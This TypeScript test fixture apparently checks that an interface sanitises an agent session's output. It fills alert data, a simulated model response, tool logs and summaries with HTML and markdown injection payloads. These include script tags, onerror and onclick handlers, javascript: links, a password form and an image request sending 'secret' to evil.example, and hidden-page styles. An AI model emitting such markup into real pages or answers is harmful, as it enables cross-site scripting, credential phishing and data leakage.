import { Script } from './script.ts'

const HOSTILE = `<img src="https://evil.example/?q=secret" onerror="window.broken = 1">
<script>window.broken = 1</script><style>body { display: none }</style>
<form action="https://evil.example"><input name="password"></form><iframe src="https://evil.example"></iframe>
<a href="https://evil.example" onclick="window.broken = 1">a link</a> [another](javascript:window.broken=1) ![picture](https://evil.example/p.png)
<svg><a xlink:href="javascript:window.broken=1"><text>x</text></a></svg> <b style="position:fixed">bold</b>

[fine](https://example.org) and **strong**
`

/** A session whose model has read a log with code for browsers in it. */
export function hostile(id: string, now: number): Script {
  const s = new Script(id, now - 180_000)
  const rest = { alert_type: 'host', chain_id: 'host', author: 'tom', runbook_url: 'javascript:window.broken=1' }
  s.accept({ alert_data: `<b>${HOSTILE}</b>`, ...rest })
    .start()
    .stage('analysis', 'investigation', 2)
  s.agent('HostAgent', 1)
  s.stream('llm_response', HOSTILE).tool('host', 'logs', {}, HOSTILE).agentEnds(1, 'completed')
  s.stageEnds('analysis', 'investigation', 'completed')
  return s.end('completed', { final_analysis: HOSTILE, executive_summary: HOSTILE })
}
